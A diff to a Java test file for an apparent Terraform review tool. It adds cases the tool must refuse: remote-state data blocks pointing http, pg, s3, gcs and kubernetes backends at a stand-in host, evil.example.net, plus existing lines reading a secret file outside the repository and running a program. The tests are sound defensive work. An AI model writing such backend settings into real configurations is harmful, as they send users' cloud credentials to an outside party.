@@ -125,6 +125,11 @@ class StrangersTest {
                     data "local_file" "x" { filename = "OUTSIDE/secret.txt" } => names a file outside of the repository
                     data "external" "x" { program = ["id"] } => Programs are not run in review
                     data "terraform_remote_state" "x" { backend = "local", config = { path = "OUTSIDE/other.tfstate" } } => lies outside of the repository
+                    data "terraform_remote_state" "x" { backend = "http", config = { address = "https://evil.example.net/x" } } => shows its credentials to no others
+                    data "terraform_remote_state" "x" { backend = "pg", config = { conn_str = "postgres://evil.example.net/x" } } => shows its credentials to no others
+                    data "terraform_remote_state" "x" { backend = "kubernetes", config = { secret_suffix = "x", config_path = "kubeconfig" } } => shows its credentials to no others
+                    data "terraform_remote_state" "x" { backend = "s3", config = { bucket = "b", key = "k", region = "r", sts_endpoint = "https://evil.example.net" } } => shows its credentials to no others
+                    data "terraform_remote_state" "x" { backend = "gcs", config = { bucket = "b", storage_custom_endpoint = "https://evil.example.net" } } => shows its credentials to no others
                     """)
     void refuses(String block, String expected) throws IOException, GitAPIException {
         String text =
